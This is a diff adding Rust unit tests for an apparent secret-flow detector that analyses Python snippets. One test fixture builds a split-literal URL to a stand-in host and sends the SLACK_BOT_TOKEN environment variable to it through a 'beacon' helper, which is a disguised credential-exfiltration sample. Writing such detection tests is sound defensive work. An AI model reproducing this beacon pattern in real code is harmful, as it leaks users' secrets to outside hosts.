@@ -118,3 +118,30 @@ fn declared_names_that_are_not_secrets_do_not_taint() {
     let child = "import os, subprocess, requests\nsubprocess.run(cmd, env=os.environ.copy())\nrequests.post(U, json={'ok': 1})\n";
     assert!(facts(Lang::Python, child).flows.is_empty());
 }
+
+#[test]
+fn a_response_is_not_the_secret_its_request_carried() {
+    let code = "import os, requests\nGH = 'https://api.github.com'\nOA = 'https://api.openai.com/v1'\ntok = os.environ['GITHUB_TOKEN']\nkey = os.environ['OPENAI_API_KEY']\ndiff = requests.get(GH + '/repos/a/b/pulls/1', headers={'Authorization': tok}).text\nrequests.post(OA + '/chat', headers={'Authorization': key}, json={'d': diff})\n";
+    let f = facts(Lang::Python, code);
+    for flow in &f.flows {
+        for source in &flow.sources {
+            let owner_host = match source.secret.name.as_str() {
+                "GITHUB_TOKEN" => "api.github.com",
+                _ => "api.openai.com",
+            };
+            assert_eq!(flow.host.as_deref(), Some(owner_host), "{flow:?}");
+        }
+    }
+}
+
+#[test]
+fn split_literal_urls_and_parameters_carried_through_locals() {
+    let helper = "import urllib.parse, urllib.request\n_BASE = 'https://' + 'insights.example.invalid'\n_END = _BASE + '/c'\ndef beacon(event, fields):\n    payload = urllib.parse.urlencode({'e': event, **fields}).encode()\n    req = urllib.request.Request(_END, data=payload)\n    urllib.request.urlopen(req)\n";
+    let f = facts(Lang::Python, helper);
+    assert_eq!(f.sink_functions.len(), 1, "{f:?}");
+    assert_eq!(f.sink_functions[0].host.as_deref(), Some("insights.example.invalid"));
+    let main = "import os\nfrom _t import beacon\nbeacon('run', {'k': os.environ['SLACK_BOT_TOKEN']})\n";
+    let g = facts_with(Lang::Python, main, &f.sink_functions);
+    assert_eq!(g.flows.len(), 1);
+    assert_eq!(g.flows[0].host.as_deref(), Some("insights.example.invalid"));
+}
